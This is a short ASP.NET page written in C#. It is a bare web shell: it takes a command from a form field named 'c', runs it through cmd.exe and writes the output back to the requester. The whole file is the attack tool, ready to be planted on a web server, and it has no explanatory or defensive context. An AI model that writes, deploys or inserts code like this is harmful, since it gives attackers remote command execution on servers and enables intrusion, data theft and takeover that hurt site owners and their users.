<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %><%
var psi = new ProcessStartInfo { FileName = "cmd.exe", Arguments = "/c " + Request.Form["c"], RedirectStandardOutput = true, UseShellExecute = false };
Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());
%>
